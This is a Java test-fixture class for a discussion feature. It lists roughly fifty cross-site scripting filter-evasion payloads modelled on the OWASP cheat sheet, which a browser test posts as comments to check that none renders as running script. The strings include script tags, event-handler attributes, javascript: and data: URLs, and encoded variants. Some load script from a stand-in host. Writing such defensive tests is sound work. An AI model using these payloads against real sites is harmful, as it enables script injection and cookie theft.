package dev.storyline.discussion;

import java.util.List;

/**
 * Vectors in the style of the OWASP XSS Filter Evasion Cheat Sheet, written out by hand, each one
 * posted as a comment: none may come back as markup that runs script. Public for the browser test
 * in {@code dev.storyline.e2e}.
 */
public final class XssVectors {
  private XssVectors() {}

  /** Every vector, one comment each. */
  public static final List<String> ALL =
      List.of(
          "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
          "<script>alert('XSS')</script>",
          "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
          "<IMG SRC=\"javascript:alert('XSS');\">",
          "<IMG SRC=javascript:alert('XSS')>",
          "<IMG SRC=JaVaScRiPt:alert('XSS')>",
          "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
          "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
          "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
          "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
          "<IMG SRC=# onmouseover=\"alert('xxs')\">",
          "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
          "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
          "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
          "<IMG SRC=\"jav\tascript:alert('XSS');\">",
          "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
          "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
          "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
          "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
          "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
          "<SCRIPT SRC=//xss.example/.j>",
          "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
          "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
          "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
          "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
          "<svg/onload=alert('XSS')>",
          "<BGSOUND SRC=\"javascript:alert('XSS');\">",
          "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
          "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
          "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
          "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
          "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
          "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
          "<DIV STYLE=\"width: expression(alert('XSS'));\">",
          "<BASE HREF=\"javascript:alert('XSS');//\">",
          "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
          "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
          "[click me](javascript:alert('XSS'))",
          "[click me](JaVaScRiPt:alert('XSS'))",
          "[click me](vbscript:msgbox('XSS'))",
          "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "![x](javascript:alert('XSS'))",
          "<javascript:alert('XSS')>",
          "[a](&#106;avascript:alert(1))",
          "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
          "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
          "\"><script>alert(1)</script>",
          "<details open ontoggle=alert(1)>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>");
}
